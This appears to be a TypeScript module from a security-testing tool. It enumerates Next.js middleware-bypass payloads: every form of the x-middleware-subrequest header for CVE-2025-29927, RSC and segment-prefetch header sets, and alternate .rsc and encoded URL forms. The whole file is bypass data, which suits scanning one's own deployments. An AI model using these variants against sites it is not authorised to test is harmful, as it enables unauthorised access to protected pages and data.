// Known ways to get past a Next.js proxy/middleware or to ask for a page's data instead of its
// HTML: the internal subrequest header (CVE-2025-29927) in every form it has had, RSC and prefetch
// headers, and the .rsc / segment-prefetch / _rsc URL forms (the 2026 segment-prefetch bypasses).

const SUBREQUEST_NAMES = ['middleware', 'src/middleware', 'pages/_middleware', 'proxy', 'src/proxy'];

/** Every x-middleware-subrequest value: each name alone and repeated five times (the recursion limit). */
export const MIDDLEWARE_SUBREQUEST_FORMS: readonly string[] = SUBREQUEST_NAMES.flatMap((name) => [
  name,
  Array.from({ length: 5 }, () => name).join(':'),
]);

export interface HeaderVariant {
  readonly label: string;
  readonly headers: Readonly<Record<string, string>>;
}

/** The header sets tried on every path. */
export const HEADER_VARIANTS: readonly HeaderVariant[] = [
  { label: 'plain', headers: {} },
  ...MIDDLEWARE_SUBREQUEST_FORMS.map((value) => ({ label: `x-middleware-subrequest: ${value}`, headers: { 'x-middleware-subrequest': value } })),
  { label: 'RSC: 1', headers: { rsc: '1' } },
  { label: 'RSC + Next-Router-Prefetch', headers: { rsc: '1', 'next-router-prefetch': '1' } },
  { label: 'RSC + segment prefetch /_tree', headers: { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_tree' } },
  { label: 'RSC + segment prefetch /_full', headers: { rsc: '1', 'next-router-prefetch': '1', 'next-router-segment-prefetch': '/_full' } },
  {
    label: 'subrequest + RSC prefetch',
    headers: { 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy', rsc: '1', 'next-router-prefetch': '1' },
  },
];

/** The smaller set tried on each URL form (every header set on every form would only repeat the proxy's matcher). */
export const URL_FORM_HEADERS: readonly HeaderVariant[] = [
  { label: 'plain', headers: {} },
  { label: 'RSC + Next-Router-Prefetch', headers: { rsc: '1', 'next-router-prefetch': '1' } },
  { label: 'x-middleware-subrequest: proxy×5', headers: { 'x-middleware-subrequest': 'proxy:proxy:proxy:proxy:proxy' } },
];

/** Other spellings of the same page: its data URLs and path tricks a matcher might not expect. */
export function urlForms(path: string, kind: 'page' | 'route'): string[] {
  const base = path === '/' ? '/index' : path;
  const tricks = path === '/' ? [] : [`${path}/`, `/${path}`, `/%${path.charCodeAt(1).toString(16)}${path.slice(2)}`];
  const data = [`${base}.rsc`, `${path}?_rsc=sec01`];
  if (kind === 'route') return [...data, ...tricks];
  return [...data, `${base}.prefetch.rsc`, `${base}.segments/_tree.segment.rsc`, `${base}.segments/_full.segment.rsc`, ...tricks];
}
